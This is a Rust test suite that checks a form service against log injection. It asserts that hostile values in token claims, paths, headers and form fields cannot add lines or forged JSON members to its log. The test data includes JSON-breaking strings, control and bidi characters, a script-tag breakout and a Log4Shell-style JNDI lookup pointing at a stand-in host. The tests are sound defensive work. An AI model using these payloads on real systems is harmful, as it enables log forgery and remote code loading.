//! Data of a request cannot add a line to the log or a member to its log line.

use reqwest::Method;
use serde_json::json;

use crate::raw;
use crate::reaction::STATE;
use crate::target::{FORM, Target, encoded, submission};

/// Texts that could end a line, a string or the object.
const TEXTS: [&str; 8] = [
    "a\",\"outcome\":\"answered\",\"x\":\"",
    "\"}{\"outcome\":\"answered\"}",
    "a\\",
    "a\\\",\"level\":\"INFO\"}",
    "a\u{2028}b\u{2029}c",
    "a\u{202e}b",
    "</script><script>",
    "${jndi:ldap://evil.example.com/a}",
];

/// The number of members of a log line that are called `outcome`.
fn outcomes(line: &str) -> usize {
    line.matches("\"outcome\":").count()
}

#[tokio::test]
async fn a_logged_claim_is_a_single_string_in_a_single_line() {
    let target = Target::start().await;
    for text in TEXTS {
        let token = target.token(&json!({"client": text, "txn": text}));
        let opened = target.open(&token).await;
        let line = opened.shows_form(text, (200, "rendered"), &token);
        assert_eq!(line["application"], text);
        assert_eq!(line["login"], text.chars().take(8).collect::<String>());
        assert_eq!(outcomes(&opened.lines[0]), 1, "{}", opened.lines[0]);
        target.answer(&token).await.answered(text);
    }
}

#[tokio::test]
async fn a_claim_with_a_line_break_is_not_logged() {
    let target = Target::start().await;
    for end in ["\n", "\r\n", "\r", "\u{85}", "\u{b}", "\u{c}", "\0", "\u{1b}[2K"] {
        let text = format!("name{end}{{\"outcome\":\"answered\"}}");
        let token = target.token(&json!({"client": text}));
        let line = target.open(&token).await.shows_form(&text, (200, "rendered"), &token);
        assert_eq!(line.get("application"), None, "{text:?}");
        let token = target.token(&json!({"txn": text}));
        target.refuses(&format!("{text:?}"), &token, (403, "claim_invalid")).await;
    }
}

#[tokio::test]
async fn a_fingerprint_is_logged_only_in_the_format_of_the_action() {
    let target = Target::start().await;
    for (settings, is_logged) in [
        (json!("0eda315b"), true),
        (json!("00000000"), true),
        (json!("0EDA315B"), false),
        (json!("0eda315g"), false),
        (json!("0eda315"), false),
        (json!("0eda315bc"), false),
        (json!(" eda315b"), false),
        (json!("\u{ff10}\u{ff10}aa"), false),
        (json!("<script>"), false),
        (json!("0eda315b\n"), false),
        (json!(12_345_678), false),
        (json!(["0eda315b"]), false),
    ] {
        let case = settings.to_string();
        let token = target.token(&json!({ "settings": settings }));
        let opened = target.open(&token).await.shows_form(&case, (200, "rendered"), &token);
        let answered = target.answer(&token).await;
        answered.answered(&case);
        for line in [opened, answered.line(&case)] {
            assert_eq!(line.get("settings"), is_logged.then_some(&settings), "{case}");
        }
    }
}

#[tokio::test]
async fn a_rule_is_logged_only_if_it_is_the_name_of_a_rule() {
    let target = Target::start().await;
    for (rule, is_logged) in [
        (json!("new-terms"), true),
        (json!("0_a"), true),
        (json!("x".repeat(32)), true),
        (json!("x".repeat(33)), false),
        (json!(""), false),
        (json!("-a"), false),
        (json!("New-Terms"), false),
        (json!("new terms"), false),
        (json!("new-terms\n"), false),
        (json!("\u{ff41}"), false),
        (json!(TEXTS[0]), false),
        (json!(7), false),
        (json!(["new-terms"]), false),
    ] {
        let case = rule.to_string();
        let token = target.token(&json!({ "rule": rule }));
        let opened = target.open(&token).await;
        let line = opened.shows_form(&case, (200, "rendered"), &token);
        let answered = target.answer(&token).await;
        answered.answered(&case);
        for line in [line, answered.line(&case)] {
            assert_eq!(line.get("rule"), is_logged.then_some(&rule), "{case}");
        }
        assert_eq!(outcomes(&opened.lines[0]), 1, "{}", opened.lines[0]);
    }
}

#[tokio::test]
async fn a_path_a_method_or_a_header_is_not_logged_unchanged() {
    let target = Target::start().await;
    for text in TEXTS {
        let name: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
        let path = format!("/forms/{}%0A%7B%22outcome%22:%22answered%22%7D", name.replace('+', "%20"));
        let headers = [
            ("user-agent", "x\",\"outcome\":\"answered"),
            ("x-amzn-trace-id", "x\",\"outcome\":\"answered"),
            ("x-forwarded-for", "x\",\"outcome\":\"answered"),
        ];
        let reaction = target.send(Method::GET, &path, &headers, "").await;
        let line = reaction.refused(text, (404, "form_unknown"), &[text]);
        assert_eq!(line.get("form"), None, "{line}");
        assert_eq!(outcomes(&reaction.lines[0]), 1, "{}", reaction.lines[0]);
    }
    let reaction = raw::send(&target, "A!#$%&'*+-.^_`|~1 /forms/profile", &[("host", "x")], "").await;
    reaction.refused("a method of signs", (405, "method_not_allowed"), &[]);
    assert_eq!(outcomes(&reaction.lines[0]), 1);
}

#[tokio::test]
async fn only_names_of_fields_are_logged_as_fields() {
    let target = Target::start().await;
    let mut fields = vec!["company_name", "shoe_size"];
    fields.extend(TEXTS);
    fields.extend(["a\nb", "a.b", "", "1a"]);
    let token = target.token(&json!({"fields": fields}));
    let line = target.open(&token).await.shows_form("fields", (200, "rendered"), &token);
    assert_eq!(line["unknown_fields"], json!(["shoe_size"]));
    let many: Vec<String> = (0..300).map(|n| format!("f{n}")).chain(["company_name".to_owned()]).collect();
    let token = target.token(&json!({"fields": many}));
    let line = target.open(&token).await.shows_form("many fields", (200, "rendered"), &token);
    assert_eq!(line["unknown_fields"].as_array().map(Vec::len), Some(10));
}

#[tokio::test]
async fn an_invalid_answer_is_not_logged() {
    let target = Target::start().await;
    let token = target.token(&json!({}));
    for text in TEXTS {
        let values = [("state", STATE), ("session_token", &*token), ("company_name", text), (text, text)];
        let reaction = target.send(Method::POST, "/forms/profile", &[FORM], encoded(&values)).await;
        let line = reaction.shows_form(text, (422, "answers_invalid"), &token);
        let rejected = line["rejected_fields"].as_array().unwrap();
        assert!(rejected.contains(&json!("job_title")) && rejected.len() <= 2, "{line}");
        assert!(
            !reaction.lines[0].contains(text) && outcomes(&reaction.lines[0]) == 1,
            "{}",
            reaction.lines[0]
        );
    }
    let reaction = target.post(submission(&token, &[("x", "\n{\"outcome\":\"answered\"}")])).await;
    reaction.answered("an answer that nobody asked for");
}
